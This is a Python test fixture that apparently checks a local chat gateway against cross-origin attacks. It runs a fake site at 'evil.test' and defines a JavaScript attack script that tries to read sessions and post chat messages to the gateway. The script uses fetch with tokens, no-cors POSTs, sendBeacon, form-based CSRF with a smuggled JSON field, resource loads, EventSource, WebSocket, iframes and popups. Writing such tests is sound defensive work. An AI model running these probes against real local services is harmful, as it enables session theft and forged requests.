"""A local site of another origin whose page sends a gateway every request that a browser allows."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

HOST = "evil.test"  # the browser resolves it to this machine
PAGE = b"<!doctype html><meta charset=utf-8><title>Free games</title><p>Hello</p>"


class EvilSite:
    """The address of the site and the reports of its visitors."""

    def __init__(self, port: int) -> None:
        self.origin = f"http://{HOST}:{port}"
        self.told: list[str] = []


@contextmanager
def evil_site() -> Iterator[EvilSite]:
    """Run the site in a thread."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            site.told.append(f"{self.path} {dict(self.headers)}")
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(PAGE)

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002
            """Log nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        site = EvilSite(server.server_port)
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield site
        server.shutdown()
        thread.join()


# Everything that a page of another origin can try. `canary` is in every session; readable parts of it are reported.
ATTACK = r"""async ({ target, token, canary, key }) => {
  const reads = [];
  const tried = [];
  const pause = (time) => new Promise((resolve) => setTimeout(resolve, time));
  const within = (promise) => Promise.race([promise, pause(3000).then(() => { throw new Error("too late"); })]);
  const attempt = async (name, what) => {
    tried.push(name);
    try {
      const told = await within(what());
      if (told) reads.push(`${name}: ${String(told).slice(0, 200)}`);
    } catch { /* it was refused */ }
  };
  const bearer = { Authorization: `Bearer ${token}` };
  const json = { "Content-Type": "application/json" };
  const said = JSON.stringify({ key, message: `${canary} from elsewhere`, wait: true });
  const paths = ["/v1/status", "/v1/view/sessions", "/v1/view/overview", "/v1/sessions", `/v1/view/search?q=${canary}`, "/",
    "/v1/openapi.json", "/static/page/app.js", `/v1/view/sessions?token=${token}`, `/v1/sessions?access_token=${token}`];
  await Promise.all(paths.flatMap((path) => [{}, { headers: bearer }, { credentials: "include" }, { mode: "no-cors" },
    { mode: "no-cors", headers: bearer }, { headers: { ...bearer, "X-Requested-With": "x" }, cache: "force-cache" }]
    .map((options) => attempt(`fetch ${path} ${JSON.stringify(options)}`, async () => {
      const response = await fetch(target + path, options);
      return response.type === "opaque" ? await response.text() : `${response.status} ${await response.text()}`;
    }))));
  const plain = { "Content-Type": "text/plain" };
  const full = { ...bearer, ...json };
  for (const path of ["/v1/chat/send", "/v1/view/session/rename", "/v1/view/session/pin", "/v1/chat/abort"]) {
    for (const options of [{ headers: full }, { headers: json }, { headers: plain }, {}, { mode: "no-cors", headers: plain },
      { mode: "no-cors", headers: full }, { mode: "no-cors", keepalive: true }, { credentials: "include", headers: full }]) {
      await attempt(`post ${path} ${JSON.stringify(options)}`, async () => {
        const response = await fetch(target + path, { method: "POST", body: said, ...options });
        return response.type === "opaque" ? await response.text() : `${response.status} ${await response.text()}`;
      });
    }
    navigator.sendBeacon(target + path, new Blob([said], { type: "text/plain" }));
    tried.push(`beacon ${path}`);
  }
  for (const method of ["PUT", "PATCH", "DELETE", "OPTIONS"]) {
    const options = { method, headers: full, body: "{}" };
    await attempt(method, async () => (await fetch(`${target}/v1/session?key=${key}`, options)).text());
  }
  const sink = document.createElement("iframe");
  sink.name = "sink";
  document.body.append(sink);
  for (const enctype of ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"]) {
    await attempt(`form ${enctype}`, async () => {
      const form = document.createElement("form");
      Object.assign(form, { action: `${target}/v1/chat/send`, method: "post", enctype, target: "sink" });
      const field = document.createElement("input");
      [field.name, field.value] = [said.slice(0, -1) + ',"x":"', '"}'];
      form.append(field);
      document.body.append(form);
      const loaded = new Promise((resolve) => sink.addEventListener("load", resolve, { once: true }));
      form.submit();
      await loaded;
      return sink.contentDocument?.body?.innerText;
    });
  }
  const loads = (element, properties) => new Promise((resolve, reject) => {
    element.onload = () => resolve(`${element.localName} ${element.naturalWidth ?? ""}`);
    element.onerror = () => reject(new Error("refused"));
    Object.assign(element, properties);
    document.body.append(element);
  });
  for (const path of ["/v1/view/sessions", "/static/page/app.js", "/static/style.css", `/v1/view/blob?token=${token}`]) {
    await attempt(`img ${path}`, () => loads(document.createElement("img"), { src: target + path }));
    await attempt(`script ${path}`, () => loads(document.createElement("script"), { src: target + path }));
    await attempt(`module ${path}`, async () => Object.keys(await import(target + path)).join());
    await attempt(`style ${path}`, () => loads(document.createElement("link"), { rel: "stylesheet", href: target + path }));
  }
  await attempt("events", () => new Promise((resolve, reject) => {
    const events = new EventSource(`${target}/v1/events?token=${token}`, { withCredentials: true });
    events.onopen = () => resolve("open");
    events.onmessage = (event) => resolve(event.data);
    events.onerror = () => reject(new Error("refused"));
  }));
  await attempt("socket", () => new Promise((resolve, reject) => {
    const socket = new WebSocket(`${target.replace("http", "ws")}/v1/events`, [token]);
    socket.onopen = () => resolve("open");
    socket.onerror = () => reject(new Error("refused"));
  }));
  await attempt("frame", async () => {
    const frame = document.createElement("iframe");
    const loaded = new Promise((resolve) => { frame.onload = resolve; });
    frame.src = `${target}/#token=${token}`;
    document.body.append(frame);
    await loaded;
    await pause(300);
    return frame.contentDocument?.body?.innerText || frame.contentWindow.document?.title;
  });
  await attempt("window", async () => {
    const opened = open(`${target}/#token=${token}`);
    await pause(500);
    opened.postMessage({ gatewayUrl: location.origin, token: 1 }, "*");
    return opened.closed ? null : opened.document.body.innerText || opened.sessionStorage.length;
  });
  await pause(200);
  return { reads, tried: tried.length };
}"""
